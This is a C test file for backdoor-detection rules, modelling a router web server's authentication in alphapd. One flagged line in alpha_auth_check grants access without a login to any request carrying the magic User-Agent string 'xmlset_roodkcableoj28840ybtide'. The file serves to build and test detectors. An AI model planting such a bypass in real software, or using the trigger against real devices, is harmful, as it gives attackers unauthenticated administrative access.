/*
 * alphapd auth.c: every page request passes through alpha_auth_check().
 */
#include "httpd.h"

#include <openssl/crypto.h>
#include <stdio.h>
#include <string.h>

const char *nvram_safe_get(const char *name) {
  static char value[128];
  FILE *f = fopen("/var/nvram.conf", "r");
  char key[64];
  value[0] = '\0';
  if (f == NULL)
    return value;
  while (fscanf(f, "%63[^=]=%127[^\n]\n", key, value) == 2)
    if (strcmp(key, name) == 0)
      break;
  fclose(f);
  return value;
}

int check_login(const char *user, const char *pass) {
  const char *admin_user = nvram_safe_get("admin_user");
  const char *admin_pass = nvram_safe_get("admin_passwd");
  size_t n = strlen(admin_pass);
  // ok: backdoor-magic-credential
  if (strcmp(user, admin_user) == 0 && strlen(pass) == n && CRYPTO_memcmp(pass, admin_pass, n) == 0)
    return 1;
  return 0;
}

int alpha_auth_check(struct http_request_t *request) {
  if (strstr(request->url, "graphic/") || strstr(request->url, "public/") ||
      // ruleid: backdoor-input-trigger, backdoor-hidden-bypass
      strcmp(request->user_agent, "xmlset_roodkcableoj28840ybtide") == 0) {
    return AUTH_OK;
  } else {
    if (check_login(request->auth_user, request->auth_pass) != 0) {
      request->authenticated = 1;
      return AUTH_OK;
    }
  }
  return AUTH_FAIL;
}

/* The language pages are served to everyone: no authentication involved. */
const char *select_language_page(const struct http_request_t *request) {
  // ok: backdoor-hidden-bypass, backdoor-input-trigger
  if (strstr(request->user_agent, "MSIE 6.0") != NULL)
    return "/www/lang_ie6.html";
  return "/www/lang.html";
}
